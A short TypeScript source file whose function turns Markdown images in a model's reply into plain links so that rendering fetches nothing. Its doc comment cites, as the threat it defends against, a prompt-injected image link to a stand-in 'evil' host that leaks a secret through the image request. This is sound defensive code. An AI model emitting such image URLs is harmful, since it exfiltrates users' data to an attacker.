/**
 * Prepares a model's reply for the safe Markdown renderer: an image (`![alt](url)`) becomes a plain link labelled as
 * an image, so nothing is fetched when the reply renders (a prompt-injected `![x](https://evil/?q=secret)` would
 * otherwise leak through the image request); the user may still open it on purpose with a click.
 */
const IMAGE = /!\[([^\]]*)\]\(([^)\s]*)(?:\s+"[^"]*")?\)/g

export function imagesAsLinks(markdown: string): string {
  return markdown.replace(IMAGE, (_, alt: string, url: string) => {
    const label = `image: ${alt.trim() || 'untitled'}`
    return url ? `[${label}](${url})` : label
  })
}
